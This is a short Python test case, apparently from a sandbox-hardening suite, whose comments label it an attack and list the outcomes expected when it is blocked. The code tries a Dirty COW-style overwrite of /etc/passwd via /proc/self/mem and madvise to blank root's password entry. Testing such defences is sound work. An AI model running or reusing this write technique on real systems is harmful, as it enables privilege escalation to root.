# attack: write into a system file by way of one's own memory
# standard: harmless|EACCES
# strict: harmless|EACCES
with open("/etc/passwd", "rb") as f:
    before = f.read()
    at = mmap.mmap(f.fileno(), 0, flags=mmap.MAP_PRIVATE,
        prot=mmap.PROT_READ)
libc.mmap.restype = ctypes.c_void_p
fd = os.open("/etc/passwd", os.O_RDONLY)
address = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, fd, ctypes.c_long(0))
try:
    mem = os.open("/proc/self/mem", os.O_RDWR)
    for _ in range(200):
        os.pwrite(mem, b"root::0:0", address)
        libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)
    with open("/etc/passwd", "rb") as f:
        outcome("harmless" if f.read() == before else "done")
except OSError as e:
    outcome(word(e.errno))
